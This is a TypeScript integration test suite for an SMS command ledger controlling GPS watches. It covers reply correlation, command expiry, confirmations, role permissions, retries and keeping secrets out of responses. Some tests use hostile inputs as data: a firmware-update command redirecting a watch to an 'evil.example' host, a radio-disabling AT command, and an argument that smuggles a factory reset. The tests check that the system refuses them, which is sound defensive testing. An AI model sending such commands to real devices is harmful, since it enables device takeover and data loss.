// The command ledger on the real stack (docs/sms.md "The command ledger"): api, worker, fleet-sim's gateway and
// watches, Postgres and Redis. Correlation, alarms, expiry, authorisation, gates, confirmations, retries and secrets.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { modemDevices, taskRow, untilTask } from './modem-helpers.js';
import { uploadBinary } from './firmware-helpers.js';
import { startSmsWorld, watches, type SmsWorld } from './sms-helpers.js';
import { eventually } from './harness.js';

let w: SmsWorld;
let admin: string;
beforeAll(async () => {
  // watches that never answer unless a test makes them speak, so a command stays awaiting its reply
  w = await startSmsWorld({ env: { COMMAND_RETRY_BASE_MS: '300' }, sim: { silentRate: 1 } });
  admin = await w.api.signIn('admin');
}, 120_000);
afterAll(() => w?.close());

const row = async (id: number) => (await w.api.pool.query('SELECT *, status::int AS status FROM sms_message WHERE id = $1', [id])).rows[0] as Record<string, any>;
const sent = (id: number) => eventually(async () => ((await row(id)).status >= 1 ? row(id) : null), { what: `sms ${id} sent`, deadline: 60_000 });
const inbound = async (sid: string) => (await w.api.pool.query('SELECT * FROM sms_message WHERE gateway_message_id = $1', [sid])).rows[0] as Record<string, any>;
const send = (body: Record<string, unknown>, token = admin) => w.api.post('/sms/send', body, token);

describe('correlation: a reply closes only the command it answers', () => {
  it('an unprompted SOS ALARM while a command awaits its reply leaves the command open and is stored as an alarm', async () => {
    const [d] = await watches(w.api, 1, 1, 40);
    const r = await send({ command_key: 'STATUS', message: '', device_id: d!.id });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    await sent(r.body.model.id);
    const alarm = await w.sim.control.speak(d!.gsm, 'SOS ALARM');
    expect(alarm.answered).toBe(200);
    expect(await inbound(alarm.sid)).toMatchObject({ direction: 'INBOUND', kind: 'alarm', event_code: 'sos', reply_to: null, device_id: d!.id });
    const open = await row(r.body.model.id);
    expect(open.answered_at).toBeNull();
    expect([1, 2]).toContain(open.status);
    // the device's SMS tab shows the alarm as one
    const day = new Date().toISOString().slice(0, 10);
    const list = (await w.api.get(`/sms/list?device_id=${d!.id}&date=${day}&tz=UTC`, admin)).body.model as { message: string; kind: string | null; event_code: string | null }[];
    expect(list.find((m) => m.message === 'SOS ALARM')).toMatchObject({ kind: 'alarm', event_code: 'sos' });
    // the command's own reply closes it
    const reply = await w.sim.control.speak(d!.gsm, 'STATUS:BAT=50%,GSM=20,GPS=1');
    expect(await inbound(reply.sid)).toMatchObject({ kind: 'reply', reply_to: String(r.body.model.id) });
    expect(await row(r.body.model.id)).toMatchObject({ status: 2, answered_at: expect.anything() });
  });

  it("another command's OK does not close a command: LOC:OK is not REBOOT's; a reply to no awaiting command is unmatched", async () => {
    const [d] = await watches(w.api, 1, 1, 41);
    const r = await send({ command_key: 'REBOOT', message: '', device_id: d!.id });
    await sent(r.body.model.id);
    const stray = await w.sim.control.speak(d!.gsm, 'LOC:OK');
    expect(await inbound(stray.sid)).toMatchObject({ kind: 'unmatched', reply_to: null });
    expect((await row(r.body.model.id)).answered_at).toBeNull();
    const ok = await w.sim.control.speak(d!.gsm, 'RESET:OK');
    expect(await inbound(ok.sid)).toMatchObject({ kind: 'reply', reply_to: String(r.body.model.id) });
    // a second answer (a reply to a command already answered) closes nothing
    const late = await w.sim.control.speak(d!.gsm, 'RESET:OK');
    expect(await inbound(late.sid)).toMatchObject({ kind: 'unmatched', reply_to: null });
  });

  it('a modem check moves on its own command’s reply only, never on another command’s :OK or an alarm', async () => {
    const [d] = await modemDevices(w.api, 1, { offset: 7 });
    const init = await w.api.post('/device/initModemUpdateProcess', { IMEIs: [d!.imei] }, admin);
    expect(init.status, JSON.stringify(init.body)).toBe(200);
    const modemId = (await w.api.pool.query('SELECT id FROM modem_update_task WHERE device_id = $1', [d!.id])).rows[0].id as number;
    // task 1 changes settings, task 2 sends START_SSP, task 3 waits for its reply
    const check = await untilTask(w.api, modemId, 'RUNNING', 3);
    const ssp = await sent(check.sms_id);
    for (const body of ['LOC:OK', 'RESET:OK', 'SOS ALARM', 'UPDATE_MODEM:OK,FW=2']) await w.sim.control.speak(d!.gsm, body);
    const still = await taskRow(w.api, modemId);
    expect(still).toMatchObject({ task_id: 3, errors: 0, version: check.version });
    expect((await row(ssp.id)).answered_at).toBeNull();
    await w.sim.control.speak(d!.gsm, 'START_SSP:OK,SSP=4711');
    await untilTask(w.api, modemId, 'RUNNING', 5);
    await w.api.post('/device/stopModemUpdateProcess', { IMEIs: [d!.imei] }, admin);
  });
});

describe('time to live', () => {
  it('a command past its time to live is never handed to the gateway: it ends expired with its reason, shown on the SMS tab', async () => {
    const [d] = await watches(w.api, 1, 1, 42);
    // no worker takes it meanwhile (as during a gateway or worker outage)
    await w.worker!.close();
    w.worker = null;
    const r = await send({ command_key: 'STATUS', message: '', device_id: d!.id });
    expect(r.body.model.expires_at).toBeTruthy();
    // six hours pass (the ordinary class's time to live)
    await w.api.pool.query("UPDATE sms_message SET created = created - interval '7 hours', expires_at = now() - interval '1 hour' WHERE id = $1", [r.body.model.id]);
    await w.startWorker();
    const m = await eventually(async () => ((await row(r.body.model.id)).status === 4 ? row(r.body.model.id) : null), { what: 'expired', deadline: 60_000 });
    expect(m).toMatchObject({ error_code: 'smsExpired', error_params: { minutes: 360 }, gateway_message_id: null });
    expect(w.sim.control.messages(d!.gsm).filter((x) => x.body === 'STATUS#')).toEqual([]);
    const day = new Date(Date.now() - 7 * 3600_000).toISOString().slice(0, 10);
    const list = (await w.api.get(`/sms/list?device_id=${d!.id}&date=${day}&tz=UTC`, admin)).body.model as { id: number; status: number; error: string }[];
    expect(list.find((x) => x.id === r.body.model.id)).toMatchObject({ status: 4, error: 'Not sent within its time to live of 360 minutes' });
  });

  it('a destructive command lives 15 minutes and is sent only once confirmed', async () => {
    const [d] = await watches(w.api, 1, 1, 43);
    const before = (await w.api.pool.query("SELECT count(*)::int AS n FROM sms_message WHERE device_id = $1 AND command_key = 'FACTORY_RESET'", [d!.id])).rows[0].n;
    const ask = await send({ command_key: 'FACTORY_RESET', message: '', device_id: d!.id });
    expect(ask.status).toBe(200);
    expect(ask.body.model).toMatchObject({ action: 'sms.destructive', command_key: 'FACTORY_RESET', targets: 1, refused: 0 });
    expect((await w.api.pool.query("SELECT count(*)::int AS n FROM sms_message WHERE device_id = $1 AND command_key = 'FACTORY_RESET'", [d!.id])).rows[0].n).toBe(before);
    // the token is this request's: another device or command cannot use it
    const other = await send({ command_key: 'FACTORY_RESET', message: '', device_id: d!.id + 1, confirm_token: ask.body.model.confirm_token });
    expect(other.body.errors[0]).toMatchObject({ field: 'confirm_token', code: expect.stringMatching(/^smsConfirmation(Mismatch|Invalid)$/) });
    const again = await send({ command_key: 'FACTORY_RESET', message: '', device_id: d!.id });
    const done = await send({ command_key: 'FACTORY_RESET', message: '', device_id: d!.id, confirm_token: again.body.model.confirm_token });
    expect(done.status, JSON.stringify(done.body)).toBe(200);
    const m = await row(done.body.model.id);
    expect(new Date(m.expires_at).getTime() - new Date(m.created).getTime()).toBe(15 * 60_000);
  });
});

describe('who may send what, and to which devices', () => {
  it("a partner's free text, AT command, destructive or log command is refused (403) on every route, and nothing is stored", async () => {
    const partner = await w.api.signIn('partnera-manager');
    const [d] = await watches(w.api, 2, 1, 3);
    const count = async () => (await w.api.pool.query('SELECT count(*)::int AS n FROM sms_message WHERE device_id = $1', [d!.id])).rows[0].n as number;
    const before = await count();
    for (const [command_key, message] of [['CUSTOM', 'FOTA,1,v,evil.example:21,u,p,/x,1,a#'], ['SEND_ATCMD', 'AT+CFUN=0'], ['FACTORY_RESET', ''], ['START_LOG', '30,2'], ['START_SSP', '']]) {
      const one = await send({ command_key, message, device_id: d!.id }, partner);
      expect(one.status, command_key).toBe(403);
      expect(one.body.errors[0], command_key).toMatchObject({ field: 'command_key', code: 'smsCommandNotAllowed', params: { command: command_key } });
      const bulk = await w.api.post('/sms/sendBulk', { command_key, message, devices: [d!.id], device_type: 2 }, partner);
      expect(bulk.status, command_key).toBe(403);
    }
    expect((await w.api.post('/sms/send/startlog', { duration: 30, logLevel: 2, deviceId: d!.id }, partner)).status).toBe(403);
    expect(await count()).toBe(before);
    // an ordinary command of its own type goes
    expect((await send({ command_key: 'LOCATE', message: '', device_id: d!.id }, partner)).status).toBe(200);
  });

  it('roles 9 and 10 send no command: not from the SMS tab, not through the contact push', async () => {
    const [d] = await watches(w.api, 1, 1, 44);
    const owner = (await w.api.pool.query('SELECT owner_id FROM device WHERE owner_id IS NOT NULL AND device_type_id = 1 ORDER BY id LIMIT 1')).rows[0].owner_id;
    for (const user of ['tier1', 'manager']) {
      const token = await w.api.signIn(user);
      expect((await send({ command_key: 'LOCATE', message: '', device_id: d!.id }, token)).status, user).toBe(403);
      const push = await w.api.get(`/contact/push?user_id=${owner}`, token);
      expect(push.status, user).toBe(403);
      expect(push.body.code, user).toBe('READ_ONLY_ROLE');
    }
  });

  it('a wrapped argument cannot smuggle a second command in', async () => {
    const [d] = await watches(w.api, 1, 1, 45);
    const r = await send({ command_key: 'SET_APN', message: 'internet#FACTORY#', device_id: d!.id });
    expect(r.status).toBe(400);
    expect(r.body.errors[0]).toMatchObject({ field: 'message', code: 'smsArgumentForbidden', params: { chars: '#' } });
  });

  it('a terminated, a disabled and a number-less device are refused before anything is stored, each with its reason', async () => {
    const [a, b, c] = await watches(w.api, 1, 3, 46);
    await w.api.pool.query('UPDATE device SET device_status = 3 WHERE id = $1', [a!.id]);
    await w.api.pool.query('UPDATE device SET enabled = false WHERE id = $1', [b!.id]);
    await w.api.pool.query('UPDATE device SET gsm_number = NULL WHERE id = $1', [c!.id]);
    for (const [d, code] of [[a, 'smsDeviceTerminated'], [b, 'smsDeviceDisabled'], [c, 'smsNoNumber']] as const) {
      const r = await send({ command_key: 'LOCATE', message: '', device_id: d!.id });
      expect(r.status, code).toBe(409);
      expect(r.body).toMatchObject({ code: 'COMMAND_REFUSED', errors: [{ field: 'device_id', code }] });
    }
    // a setting push too
    expect((await w.api.get(`/setting/push?device_id=${a!.id}&setting_no=5`, admin)).status).toBe(409);
    expect((await w.api.pool.query('SELECT count(*)::int AS n FROM sms_message WHERE device_id = ANY($1) AND created > now() - interval \'1 minute\'', [[a!.id, b!.id, c!.id]])).rows[0].n).toBe(0);
  });

  it('a bulk send answers its target count and refused devices first, starts nothing without its confirmation, then sends to the others', async () => {
    const ds = await watches(w.api, 1, 4, 50);
    await w.api.pool.query('UPDATE device SET enabled = false WHERE id = $1', [ds[3]!.id]);
    const body = { command_key: 'LOCATE', message: '', devices: ds.map((d) => d.id), device_type: 1 };
    const campaigns = async () => (await w.api.pool.query('SELECT count(*)::int AS n FROM sms_campaign')).rows[0].n as number;
    const before = await campaigns();
    const ask = await w.api.post('/sms/sendBulk', body, admin);
    expect(ask.status).toBe(200);
    expect(ask.body.model).toMatchObject({ action: 'sms.bulk', targets: 3, refused: 1, refusals: [{ device_id: ds[3]!.id, reason_code: 'smsDeviceDisabled', reason: 'The device is disabled' }] });
    expect(await campaigns()).toBe(before);
    // a token for another request (more devices, other text) or a used one starts nothing either
    const wrong = await w.api.post('/sms/sendBulk', { ...body, command_key: 'STATUS', confirm_token: ask.body.model.confirm_token }, admin);
    expect(wrong.body.errors[0]).toMatchObject({ field: 'confirm_token', code: 'smsConfirmationMismatch' });
    expect((await w.api.post('/sms/sendBulk', { ...body, confirm_token: ask.body.model.confirm_token }, admin)).body.errors[0]).toMatchObject({ code: 'smsConfirmationInvalid' });
    expect(await campaigns()).toBe(before);
    const ask2 = await w.api.post('/sms/sendBulk', body, admin);
    const go = await w.api.post('/sms/sendBulk', { ...body, confirm_token: ask2.body.model.confirm_token }, admin);
    expect(go.status, JSON.stringify(go.body)).toBe(200);
    expect(go.body.model).toMatchObject({ total: 3, refused: 1 });
    const refusal = await w.api.pool.query("SELECT device_id, reason_code FROM command_refusal WHERE batch_kind = 'campaign' AND batch_id = $1", [go.body.model.bulk_id]);
    expect(refusal.rows).toEqual([{ device_id: ds[3]!.id, reason_code: 'smsDeviceDisabled' }]);
  });
});

describe('retries', () => {
  it('a temporary refusal (BUSY) ends that attempt and sends the command again after a pause; a permanent one ends it', async () => {
    const [d] = await watches(w.api, 1, 1, 60);
    const r = await send({ command_key: 'LOCATE', message: '', device_id: d!.id });
    await sent(r.body.model.id);
    await w.sim.control.speak(d!.gsm, 'LOC:ERR,BUSY');
    const first = await row(r.body.model.id);
    expect(first).toMatchObject({ status: 3, error_code: 'smsRetried', error_params: { reason: 'BUSY' } });
    const next = (await w.api.pool.query('SELECT id FROM sms_message WHERE retry_of = $1', [r.body.model.id])).rows[0].id as string;
    expect(first.error_params.next).toBe(Number(next));
    // sent again after the pause, with the first attempt's end of life
    const again = await sent(Number(next));
    expect(again.expires_at).toEqual(first.expires_at);
    expect(w.sim.control.messages(d!.gsm).filter((m) => m.body === 'WHERE#')).toHaveLength(2);
    await w.sim.control.speak(d!.gsm, 'LOC:ERR,GPS_FAULT');
    expect(await row(Number(next))).toMatchObject({ status: 3, error_code: 'smsDeviceRefused', error_params: { reason: 'GPS_FAULT' } });
    expect((await w.api.pool.query('SELECT count(*)::int AS n FROM sms_message WHERE retry_of = $1', [next])).rows[0].n).toBe(0);
  });
});

describe('secrets', () => {
  it('no answer to any role and no CSV holds an FTP password; the gateway alone gets the download password', async () => {
    const roles: [string, number][] = [['admin', 1], ['tier1', 1], ['manager', 1], ['partnera-manager', 2], ['partnera-tier1', 2], ['partnerb-manager', 3], ['partnerb-tier1', 3]];
    const secrets = ['firmware-dev', 'firmware-dl-dev'];
    const devices = new Map<number, { id: number; gsm: string }>();
    for (const type of [1, 2, 3]) {
      const [d] = await watches(w.api, type, 1, type === 1 ? 70 : 8);
      devices.set(type, d!);
      const bin = await uploadBinary(w.api, admin, `S${type}.0.0`, type);
      const r = await w.api.post('/firmware/insert', { fup_upload_id: bin.id, upload_type: 2, extend: [(await w.api.pool.query('SELECT imei FROM device WHERE id = $1', [d!.id])).rows[0].imei], expired_at: new Date(Date.now() + 86_400_000).toISOString() }, admin);
      expect(r.status, JSON.stringify(r.body)).toBe(200);
      const fota = await eventually(() => w.sim.control.messages(d!.gsm).find((m) => m.body.startsWith('FOTA,')), { what: 'FOTA sent', deadline: 60_000 });
      expect(fota.body).toContain(',firmware-dl,firmware-dl-dev,');
    }
    const day = new Date().toISOString().slice(0, 10);
    const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    for (const [user, type] of roles) {
      const token = await w.api.signIn(user);
      const d = devices.get(type)!;
      const reads = [await w.api.get(`/sms/list?device_id=${d.id}&date=${day}&tz=UTC`, token)];
      const gen = await w.api.get(`/csv/generate?device_id=${d.id}&date=${day}&tz=UTC`, token);
      if (gen.status === 200) reads.push(await w.api.get(`/csv/sms_per_device?hash=${gen.body.model.hash}`, token));
      if (user === 'admin') {
        reads.push(await w.api.get(`/sms/search?query=FOTA&from=${day}&to=${tomorrow}&page=0&count=25`, token));
        const g = await w.api.get(`/csv/generate/sms?query=FOTA&from=${day}&to=${tomorrow}`, token);
        reads.push(await w.api.get(`/csv/sms_global?hash=${g.body.model.hash}`, token));
      }
      for (const r of reads) {
        expect(r.status, user).toBe(200);
        const text = typeof r.body === 'string' ? r.body : JSON.stringify(r.body);
        expect(text, user).toContain('FOTA,');
        for (const s of secrets) expect(text.includes(s), `${user} read ${s}`).toBe(false);
      }
    }
  });
});

describe("fleet-sim's watches misbehave as real ones do (docs/fleet-sim.md)", () => {
  const replyOf = (id: number) => eventually(async () => (await w.api.pool.query('SELECT * FROM sms_message WHERE reply_to = $1', [id])).rows[0], { what: `reply to ${id}`, deadline: 60_000 });
  const speaking = async <T>(knobs: Parameters<typeof w.sim.control.configure>[0], fn: () => Promise<T>) => {
    w.sim.control.configure({ silentRate: 0, ...knobs });
    try {
      return await fn();
    } finally {
      w.sim.control.configure({ silentRate: 1, replyOrder: 'inOrder', replyDelayMs: { min: 0, max: 0 }, busyRate: 0, alarmRate: 0 });
    }
  };

  it('replies posted in reverse order, late, each still closes its own command', async () => {
    const [d] = await watches(w.api, 1, 1, 80);
    // the window holds both commands even when a loaded machine sends the second a few seconds after the first (at
    // 1.5 s a CI run's LOCATE came after the window, and the replies came in order)
    await speaking({ replyOrder: 'reversed', replyWindowMs: 6000, replyDelayMs: { min: 200, max: 400 } }, async () => {
      const a = await send({ command_key: 'REBOOT', message: '', device_id: d!.id });
      const b = await send({ command_key: 'LOCATE', message: '', device_id: d!.id });
      expect((await replyOf(a.body.model.id)).message).toBe('RESET:OK');
      expect((await replyOf(b.body.model.id)).message).toBe('LOC:OK');
      const at = async (id: number) => new Date((await replyOf(id)).created).getTime();
      // reversed: the reply to the command the gateway accepted last came first. The worker may hand the two to the
      // gateway in either order (a CI run had LOCATE accepted first), so the order is read from fleet-sim, not assumed.
      const accepted = w.sim.control.messages(d!.gsm).filter((m) => m.replies.length > 0);
      expect(accepted).toHaveLength(2);
      const [first, last] = accepted[0]!.body.startsWith('WHERE') ? [b, a] : [a, b];
      expect(await at(last.body.model.id)).toBeLessThanOrEqual(await at(first.body.model.id));
    });
  });

  it('an alarm before the reply, and a reply said again later, are never taken for a reply to another command', async () => {
    const [d] = await watches(w.api, 1, 1, 81);
    await speaking({ alarmRate: 1 }, async () => {
      const r = await send({ command_key: 'LOCATE', message: '', device_id: d!.id });
      expect((await replyOf(r.body.model.id)).message).toBe('LOC:OK');
      const alarms = await eventually(async () => (await w.api.pool.query("SELECT * FROM sms_message WHERE device_id = $1 AND kind = 'alarm'", [d!.id])).rows[0], { what: 'the alarm', deadline: 60_000 });
      expect(alarms).toMatchObject({ event_code: 'sos', reply_to: null });
      // the watch says its old reply again: nothing awaits it, so it is kept unmatched
      const sid = w.sim.control.messages(d!.gsm).find((m) => m.body === 'WHERE#')!.sid;
      const again = await w.sim.control.replay(sid);
      expect(await inbound(again.sid)).toMatchObject({ kind: 'unmatched', reply_to: null, message: 'LOC:OK' });
    });
  });

  it('a busy watch: the command goes again after the pause and is answered then', async () => {
    const [d] = await watches(w.api, 1, 1, 82);
    const r = await speaking({ busyRate: 1 }, async () => {
      const r = await send({ command_key: 'STATUS', message: '', device_id: d!.id });
      expect((await replyOf(r.body.model.id)).message).toBe('STATUS:ERR,BUSY');
      return r;
    });
    // no longer busy (and answering): the retry is answered
    w.sim.control.configure({ silentRate: 0 });
    try {
      const next = await eventually(async () => (await w.api.pool.query('SELECT id FROM sms_message WHERE retry_of = $1', [r.body.model.id])).rows[0], { what: 'the retry', deadline: 60_000 });
      expect((await replyOf(Number(next.id))).message).toMatch(/^STATUS:BAT=/);
      expect(await row(Number(next.id))).toMatchObject({ status: 2, answered_at: expect.anything() });
    } finally {
      w.sim.control.configure({ silentRate: 1 });
    }
  });
});
